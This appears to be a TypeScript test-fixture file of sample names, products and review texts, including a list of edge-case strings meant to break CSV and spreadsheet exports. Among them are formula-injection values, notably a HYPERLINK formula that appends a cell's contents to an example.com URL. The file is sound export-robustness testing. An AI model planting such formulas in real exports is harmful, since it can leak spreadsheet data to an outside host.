export const firstNames = [
  "Ada",
  "Björn",
  "Chloé",
  "Đorđe",
  "Ελένη",
  "Фёдор",
  "José",
  "李",
  "Nguyễn",
  "Óscar",
  "زينب",
  "יעל",
  "さくら",
  "Zoë",
] as const;

export const lastNames = [
  "Lovelace",
  "O'Neill",
  "van der Berg",
  "Müller-Lüdenscheidt",
  "小龍",
  "الزهراء",
  "Smith, Jr.",
  "Çelik",
  "Ångström",
] as const;

export const items = [
  'Screen, 27" matte',
  "Espresso beans, 1 kg",
  "Notebook (A5; dotted)",
  "Кружка «Доброе утро»",
  "扇子",
  "Desk lamp",
  "قلم حبر",
  "Cable 2 m\t(black)",
  "Garden chair",
] as const;

export const plainTexts = [
  "Arrived on time, thank you.",
  "Could you send it to the other address next time?",
  "Five stars.",
  "The colour is a bit darker than on the picture.",
  "Works as described.",
] as const;

/** Each breaks some export: by its separators, its lines, its script, or by being a formula in a spreadsheet. */
export const awkwardTexts = [
  "Great 🎉👩‍👩‍👧‍👦 – recommended!",
  "مرحبا، وصل الطلب في الموعد",
  "שלום, תודה רבה",
  "e\u0301 and é look alike, a\u0308\u0323 stacks",
  'She said "perfect", twice: ""',
  "first line\nsecond line",
  "a line from Windows\r\nand the next",
  "an old Mac\rsaid so",
  "commas, semicolons; and\ttabs",
  "=1+1",
  '=HYPERLINK("https://example.com/?x="&A1,"click")',
  "+49 30 123456",
  "-2 stars",
  "@SUM(A1:A9)",
  "\tstarts with a tab",
  "＝1＋1 in full width",
  " starts and ends with a space ",
  "NULL",
  "'quoted'",
  "back\\slash and a zero-width\u200bspace",
  "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 beyond the first plane 𐍈",
] as const;
